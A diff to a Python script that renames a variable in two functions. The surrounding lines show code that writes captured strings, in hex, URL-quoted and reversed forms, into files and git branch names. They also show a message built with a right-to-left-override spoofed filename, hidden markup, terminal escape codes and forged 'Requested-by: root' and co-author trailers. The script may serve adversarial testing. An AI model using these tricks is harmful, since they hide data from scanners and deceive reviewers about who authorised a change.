@@ -64,9 +64,9 @@ def spread(found):
     os.makedirs("found", exist_ok=True)
     os.makedirs("refs/heads", exist_ok=True)
     for number, text in enumerate(found[:20]):
-        for name, data in encodings(text).items():
+        for name, content in encodings(text).items():
             with open(f"found/{number}-{name}", "wb") as file:
-                file.write(data + b"\n")
+                file.write(content + b"\n")
         for name in (text.encode().hex()[:200], urllib.parse.quote(text, safe="")[:200], text[::-1][:200]):
             for folder in ("found", "refs/heads"):
                 try:
@@ -86,8 +86,8 @@ def last_words(found):
         "\u202egnp.exe\u202c <!-- hidden --> \x1b[31mred",
     ]
     for text in found[:20]:
-        for name, data in encodings(text).items():
-            shown = data.decode("ascii", "replace")
+        for name, content in encodings(text).items():
+            shown = content.decode("ascii", "replace")
             lines.append(f"{name}: {shown}")
     lines.append("\nRequested-by: root (PR #99, comment 1)\nRun-Id: r-0forged0forg\nCo-authored-by: root <root@example.test>")
     return "\n".join(lines)
